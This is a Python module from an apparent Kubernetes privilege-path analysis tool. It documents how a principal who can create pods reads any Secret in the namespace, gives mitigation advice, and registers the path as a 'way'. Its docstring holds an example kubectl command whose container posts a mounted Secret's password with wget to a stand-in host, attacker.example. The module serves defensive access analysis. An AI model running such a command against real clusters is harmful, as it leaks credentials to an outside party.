"""Whoever creates a pod chooses what it mounts and whom it runs as: every Secret, ConfigMap and ServiceAccount of the
namespace. The kubelet fetches them; the creator needs no right on any of them.

## Needs

``create`` on ``pods`` in the namespace. ``resourceNames`` only limit the name of the new pod, and only for a
server-side apply; they do not limit what it mounts. What the pod may do to its node is up to admission: see the Pod
Security level of the namespace.

## Exploited

```console
$ kubectl run peek -n shop --image=busybox --overrides='{"spec": {"volumes": [{"name": "s", "secret": {"secretName":
    "db"}}], "containers": [{"name": "peek", "image": "busybox", "command": ["sh", "-c", "wget --post-file=/s/password
    http://attacker.example"], "volumeMounts": [{"name": "s", "mountPath": "/s"}]}]}}'
```

## Closed

A namespace is the boundary: whoever may run pods in it may read its Secrets. Put Secrets that he must not read in
another one, and let a pipeline with reviewed manifests deploy into it.

## Demonstrated

The test control plane has no kubelet. The test has the API server admit the attacker's pod, binds it to a node, and
reads the Secret as that node's kubelet does: the Node authorizer lets it only because the pod mounts the Secret.

## References

- https://kubernetes.io/docs/concepts/security/rbac-good-practices/#workload-creation
"""

from __future__ import annotations

from collections.abc import Iterator

from strongroom.access.arrivals import to_power
from strongroom.access.way import Way
from strongroom.access.world import World
from strongroom.model.access import Power, Step


def steps(world: World) -> Iterator[Step]:
    """Yield who creates pods in which namespace."""
    for permission in world.holders("", "pods", "create"):
        yield to_power(WAY.id, permission, Power.RUN_PODS, "create pods")


WAY = Way("pods-create", "creates pods", ("T1610",), steps)
